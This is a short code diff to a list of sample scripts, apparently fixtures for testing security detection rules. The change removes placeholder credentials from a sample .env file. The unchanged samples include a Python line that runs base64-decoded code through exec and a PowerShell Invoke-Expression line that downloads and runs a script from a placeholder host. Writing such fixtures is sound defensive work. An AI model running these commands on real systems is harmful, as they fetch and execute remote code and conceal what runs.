@@ -20,7 +20,7 @@ const SCRIPTS: readonly Sample[] = [
     text: "import base64, subprocess\nexec(base64.b64decode('cHJpbnQoMSk='))\nsubprocess.run(['sh', '-c', 'id'])\n",
   },
   { path: 'd.ps1', text: 'Invoke-Expression (New-Object Net.WebClient).DownloadString("https://example.test")\n' },
-  { path: '.env', text: 'API_KEY=made-up\nDATABASE_URL=postgres://user:secret@localhost/x\n' },
+  { path: '.env', text: 'API_KEY=made-up\nDATABASE_URL=postgres://localhost/x\n' },
 ];
 
 /** What the rules' own cases hold, and some scripts: real texts to begin from. */
